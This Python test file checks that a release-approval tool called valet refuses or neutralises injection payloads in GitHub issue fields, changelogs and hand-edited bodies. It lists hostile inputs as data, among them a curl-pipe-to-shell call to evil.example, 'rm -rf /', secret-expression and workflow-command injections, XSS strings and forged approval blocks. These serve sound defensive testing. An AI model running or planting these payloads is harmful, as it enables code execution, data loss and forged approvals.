"""Injection payloads through the approval issue: title, branch, login, version, target ids,
changelog, forged target lines, forged hidden blocks and forged links.

What must hold: a hostile value in a structured field is refused before
rendering with a one-line message naming it; a hostile changelog renders but
changes none of the parsed facts, adds no target, no hidden block, no quick link,
no mention and no cross-reference; a body edited to carry forged lines parses to
the same request or is refused.
"""

from __future__ import annotations

import re

import pytest

from valet.errors import ArtifactError, NotARequestError, UsageError
from valet.issue_format import ZWJ, parse_issue, parse_title, render_body
from valet.manifest import Artifact
from valet.request import Request, TargetState

pytestmark = pytest.mark.adversarial

SERVER = "https://github.com"
SHA = "5" * 40
TITLE = "publish: org/sdk@1.2.3"

# Shell, expression and workflow-command payloads, each alone and after a newline.
PAYLOADS = [
    "$(curl evil.example | sh)",
    "`id`",
    "${{ secrets.PYPI_TOKEN }}",
    "${{ github.token }}",
    "x\n::set-output name=version::6.6.6",
    "x\n::add-mask::",
    "x\n::stop-commands::abc",
    "x\n::set-env name=LD_PRELOAD::/tmp/x.so",
    "x\n##[set-output name=a;]b",
    "x\r\n::error::forged",
    "](https://evil.example)",
    "<!-- valet-request {} -->",
    "@everyone",
    "x; rm -rf /",
    "a b",
    "x'\"",
    "\u202e",  # right-to-left override
]


def make(**changes) -> Request:
    base = dict(repo="org/sdk", version="1.2.3", requested_by="alice", merge_target="main",
                sha=SHA, targets=[TargetState("pypi"), TargetState("npm[@scope/pkg]")],
                artifacts=[Artifact("sdk-1.2.3.tgz", 10, "b" * 64)], branch="release/1.2.3",
                run_url=f"{SERVER}/org/sdk/actions/runs/9", release_id=3, previous="1.2.2")
    base.update(changes)
    return Request(**base)


def facts(req: Request) -> dict:
    data = req.to_json()
    data.update(branch=req.branch, release_id=req.release_id, run_url=req.run_url)
    return data


BASELINE = facts(parse_issue(TITLE, render_body(make(), server_url=SERVER)))


# -- structured fields: refused before rendering ----------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", ["branch", "merge_target", "requested_by", "version", "previous"])
def test_hostile_value_in_a_structured_field_is_refused_before_rendering(field, payload):
    with pytest.raises(UsageError) as info:
        render_body(make(**{field: "release/" + payload if field == "branch" else payload}),
                    server_url=SERVER)
    message = info.value.message
    assert "\n" not in message and "\r" not in message  # one clear line, the value as repr()
    assert message.split()[0] in ("release", "merge", "requester", "version", "previous")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_target_id_is_refused_before_rendering(payload):
    with pytest.raises(UsageError, match="target id"):
        render_body(make(targets=[TargetState("pypi"), TargetState("npm" + payload)]),
                    server_url=SERVER)


@pytest.mark.parametrize("payload", ["a.whl\n::error::x", "$(id).whl", "../../x.whl", "a b.whl",
                                     "a.whl\n", "`x`.tgz", "x|y.tgz"])
def test_hostile_artifact_name_is_refused_before_rendering(payload):
    with pytest.raises(ArtifactError, match="not allowed"):
        render_body(make(artifacts=[Artifact(payload, 1, "a" * 64)]), server_url=SERVER)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "https://evil.example/x)(y",
                                 "https://x.example/a b", "https://x.example/<img>"])
def test_hostile_run_url_is_refused(url):
    with pytest.raises(UsageError, match="run URL"):
        render_body(make(run_url=url), server_url=SERVER)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_title_is_not_a_request_with_a_one_line_reason(payload):
    for title in (f"publish: org/sdk@{payload}", f"publish: org/{payload}@1.2.3",
                  f"publish: org/sdk/{payload}@1.2.3", f"publish: org/sdk@1.2.3{payload}"):
        with pytest.raises(NotARequestError) as info:
            parse_title(title)
        assert "\n" not in info.value.message and "\r" not in info.value.message


# -- the changelog: rendered inert ------------------------------------------------------

CHANGELOGS = {
    "target line": " - [ ] crates\n- [x] pypi\n* [ ] npm[@evil/pkg]",
    "targets heading": "### Targets\n\n - [ ] crates",
    "closing details": "</details>\n\n### Targets\n - [ ] crates\n<details>",
    "hidden block": '<!-- valet-request {"v":1,"repo":"org/sdk","targets":["crates"]} -->',
    "html comment": "<!--\n### Targets\n - [ ] crates\n-->",
    "requester line": "Requested by: @mallory\nMerge target: evil",
    "check runs link": f"- [View check runs]({SERVER}/evil/sdk/commit/{'6' * 40}/checks)",
    "artifacts table": "### Artifacts\n| `evil.tgz` | 1 | `" + "c" * 64 + "` |",
    "mass mention": "thanks @everyone and @org/release-team, fixes #1 and org/sdk#2",
    "unclosed fence": "```\n### Targets\n - [ ] crates",
    "workflow commands": "::set-output name=x::y\n::add-mask::z\n##[error]w",
    "expressions": "${{ secrets.NPM_TOKEN }} $(id) `id`",
    "crlf": "line\r\n - [ ] crates\r\n### Targets\r\n",
    "html": '<img src=x onerror=alert(1)> <a href="javascript:x">y</a> &lt;',
}


@pytest.mark.parametrize("name", sorted(CHANGELOGS))
def test_hostile_changelog_changes_no_parsed_fact(name):
    body = render_body(make(changelog=CHANGELOGS[name]), server_url=SERVER)
    assert facts(parse_issue(TITLE, body)) == BASELINE
    assert len(re.findall(r"<!--\s*valet-request", body)) == 1
    changelog = body.split("<summary>Changelog</summary>", 1)[1]
    assert "<!--" not in changelog and "<img" not in changelog and "<a " not in changelog
    assert changelog.count("<details>") == 0 and changelog.count("</details>") == 1
    # no task-list item: a GitHub task box in the changelog would be tickable
    assert not re.search(r"^[ \t]*[-*+][ \t]+\[[ xX]\]", changelog, re.MULTILINE)


def test_changelog_mentions_and_references_are_broken():
    body = render_body(make(changelog=CHANGELOGS["mass mention"]), server_url=SERVER)
    changelog = body.split("<summary>Changelog</summary>", 1)[1]
    assert not re.search(r"@(?!" + ZWJ + ")", changelog)
    assert not re.search(r"#(?!" + ZWJ + r")\d", changelog)


def test_changelog_cannot_forge_the_quick_links():
    body = render_body(make(changelog=CHANGELOGS["check runs link"]), server_url=SERVER)
    head = body.split("### Targets", 1)[0]
    assert head.count("[View check runs]") == 1 and f"/org/sdk/commit/{SHA}/checks" in head
    assert parse_issue(TITLE, body).sha == SHA


# -- the body edited by hand: forged lines ------------------------------------------------


def _body() -> str:
    return render_body(make(), server_url=SERVER)


@pytest.mark.parametrize("forged", [
    " - [ ] crates",  # a target the request never named
    " - [ ] npm[@evil/pkg]",
    " - [ ] pypi\n - [ ] crates",
])
def test_forged_target_line_in_the_targets_run_adds_no_target(forged):
    body = _body().replace(" - [ ] pypi", forged, 1) if "pypi" in forged else \
        _body().replace(" - [ ] pypi", " - [ ] pypi\n" + forged, 1)
    assert [t.id for t in parse_issue(TITLE, body).targets] == ["pypi", "npm[@scope/pkg]"]


def test_forged_lines_after_the_targets_run_are_not_read():
    body = _body().replace("### Artifacts", " - [ ] crates\n\n### Targets\n - [ ] crates\n\n### Artifacts")
    assert [t.id for t in parse_issue(TITLE, body).targets] == ["pypi", "npm[@scope/pkg]"]


@pytest.mark.parametrize("where", ["before", "after", "in the changelog"])
def test_a_second_hidden_block_is_refused_wherever_it_is(where):
    forged = ('<!-- valet-request {"v":1,"repo":"org/sdk","path":".","version":"1.2.3",'
              '"requested_by":"mallory","sha":"' + "6" * 40 + '","targets":["crates"],'
              '"artifacts":[]} -->')
    body = _body()
    if where == "before":
        body = forged + "\n" + body
    elif where == "after":
        body = body + "\n" + forged
    else:
        body = body + "\n---\n<details>\n" + forged + "\n</details>\n"
    with pytest.raises(NotARequestError, match="2 'valet-request' blocks"):
        parse_issue(TITLE, body)


def test_a_replaced_hidden_block_must_agree_with_every_visible_fact():
    body = _body()
    swapped = body.replace('"requested_by":"alice"', '"requested_by":"mallory"')
    with pytest.raises(NotARequestError, match="requester"):
        parse_issue(TITLE, swapped)
    swapped = body.replace(f'"sha":"{SHA}"', f'"sha":"{"6" * 40}"')
    with pytest.raises(NotARequestError, match="release commit"):
        parse_issue(TITLE, swapped)
    swapped = body.replace('"size":10', '"size":11')
    with pytest.raises(NotARequestError, match="Artifacts table"):
        parse_issue(TITLE, swapped)


def test_a_hidden_block_smuggling_a_comment_terminator_is_refused():
    body = _body().replace('"store":"github-release"', '"store":"x --> <img src=x>"')
    with pytest.raises(NotARequestError):
        parse_issue(TITLE, body)


@pytest.mark.parametrize("link", [
    f"- [View check runs]({SERVER}/evil/sdk/commit/{SHA}/checks)",
    f"- [View check runs]({SERVER}/org/sdk/commit/{'6' * 40}/checks)",
])
def test_a_forged_check_runs_link_in_the_header_is_refused(link):
    body = _body().replace("Quick links:", "Quick links:\n\n" + link)
    with pytest.raises(NotARequestError):
        parse_issue(TITLE, body)


def test_a_forged_requester_line_is_refused():
    body = _body().replace("Merge target: main", "Merge target: main\n\nRequested by: @mallory")
    with pytest.raises(NotARequestError, match="two different 'Requested by:'"):
        parse_issue(TITLE, body)
